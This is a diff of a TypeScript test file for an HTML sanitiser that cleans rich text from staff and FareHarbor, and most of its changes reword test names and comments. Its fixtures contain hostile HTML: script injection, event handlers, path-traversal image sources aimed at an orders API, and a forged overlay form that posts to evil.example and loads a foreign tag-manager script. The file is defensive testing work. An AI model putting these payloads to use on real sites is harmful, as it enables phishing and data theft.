@@ -7,7 +7,7 @@ const FORGED =
   '<style>body{display:none}</style><form action="https://evil.example" style="position:fixed;inset:0"><input></form>' +
   '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-EVIL"></script>Ours';
 
-describe('what staff and FareHarbor write is made safe', () => {
+describe('HTML from staff and FareHarbor is made safe', () => {
   test.each([
     ['scripts', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
     ['handlers', '<p onclick="x()">Hi</p>', '<p>Hi</p>'],
@@ -22,9 +22,9 @@ describe('what staff and FareHarbor write is made safe', () => {
     ['pictures that lead to our endpoints', '<img src="/files/../api/orders" />', ''],
     ['pictures that lead there in disguise', '<img src="/files/%2e%2e/api/orders" /><img src="/files/a\\..\\b" />', ''],
     ['style sheets, forms and foreign scripts', FORGED, 'Ours'],
-  ])('%s go', (_, dirty, clean) => expect(cleanRichText(dirty)).toBe(clean));
+  ])('%s are removed', (_, dirty, clean) => expect(cleanRichText(dirty)).toBe(clean));
 
-  test('links open elsewhere without telling where from', () => {
+  test('links open in a new tab without a referrer', () => {
     expect(cleanRichText('<a href="https://a.example" rel="opener">x</a>')).toBe(
       '<a href="https://a.example" target="_blank" rel="noopener noreferrer">x</a>',
     );
@@ -37,7 +37,7 @@ describe('what staff and FareHarbor write is made safe', () => {
   });
 
   test.each(['https://x.example/a.png', 'data:image/png;base64,AAAA', '/files/../api/orders', ''])(
-    'a picture that cannot stay is refused where staff write it: %s',
+    'a picture from elsewhere is refused in texts of staff: %s',
     (src) => {
       expect(() => staffRichText('body', `<p>Words<img src="${src}"></p>`)).toThrow(
         expect.objectContaining({
@@ -67,23 +67,23 @@ describe('what staff and FareHarbor write is made safe', () => {
         expect(cleanRichText(once)).toBe(once);
         expect(namesIn(once)).not.toEqual(expect.arrayContaining([expect.stringMatching(/^(script$|on)/)]));
       }),
-      // Words of a tag may stay as the text of an attribute, where they do nothing.
+      // Text of a tag may remain inside an attribute, where it is harmless.
       {
         examples: [
           [['<a href=', '"', '<b onx=1>', '"', '<p>']],
-          // Closed differently when read again.
+          // This HTML is closed differently when it is parsed again.
           [['<p>', '<', 'a', '<p>', '<p>']],
         ],
       },
     );
   });
 
-  test('control: the same look at what was not cleaned finds both', () => {
+  test('control: the same checks find both in uncleaned HTML', () => {
     expect(namesIn('<script></script><b onx=1>')).toEqual(['script', 'b', 'onx']);
   });
 });
 
-/** Every element and attribute, as a browser would read them. */
+/** Every element and attribute, as a browser would parse them. */
 function namesIn(html: string): string[] {
   const names: string[] = [];
   sanitizeHtml(html, {
@@ -95,7 +95,7 @@ function namesIn(html: string): string[] {
   return names;
 }
 
-test('an editor that was left empty means no text', () => {
+test('an empty editor means no text', () => {
   expect(cleanOptionalRichText('<p><br></p>')).toBe('');
   expect(cleanOptionalRichText(null)).toBe('');
 });
